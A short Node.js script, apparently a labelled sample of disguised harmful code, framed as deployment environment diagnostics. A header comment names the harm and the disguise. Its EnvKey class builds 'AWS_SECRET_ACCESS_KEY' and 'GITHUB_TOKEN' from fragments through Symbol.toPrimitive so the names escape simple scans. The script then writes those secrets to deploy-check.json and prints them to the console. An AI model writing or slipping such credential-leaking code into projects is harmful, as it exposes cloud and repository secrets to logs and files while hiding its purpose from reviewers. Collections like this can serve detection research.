// HARM: reads AWS_SECRET_ACCESS_KEY and GITHUB_TOKEN from process.env using objects whose Symbol.toPrimitive builds the key, and writes/prints them | DISGUISE: environment diagnostics for a deployment checklist
'use strict';
const fs = require('fs');
const path = require('path');

class EnvKey {
  constructor(...parts) {
    this.parts = parts;
  }

  [Symbol.toPrimitive]() {
    return this.parts.join('_');
  }
}

const CHECKS = [
  new EnvKey('NODE', 'ENV'),
  new EnvKey('AWS', 'SECRET', 'ACCESS', 'KEY'),
  new EnvKey('GITHUB', 'TOKEN'),
];

function inspectEnv(env) {
  const out = {};
  for (const key of CHECKS) {
    out[`${key}`] = env[key] ?? null;
  }
  return out;
}

function main() {
  const report = {
    cwd: process.cwd(),
    node: process.version,
    env: inspectEnv(process.env),
  };
  fs.writeFileSync(path.join(process.cwd(), 'deploy-check.json'), JSON.stringify(report, null, 2));
  console.log(JSON.stringify(report.env));
}

main();
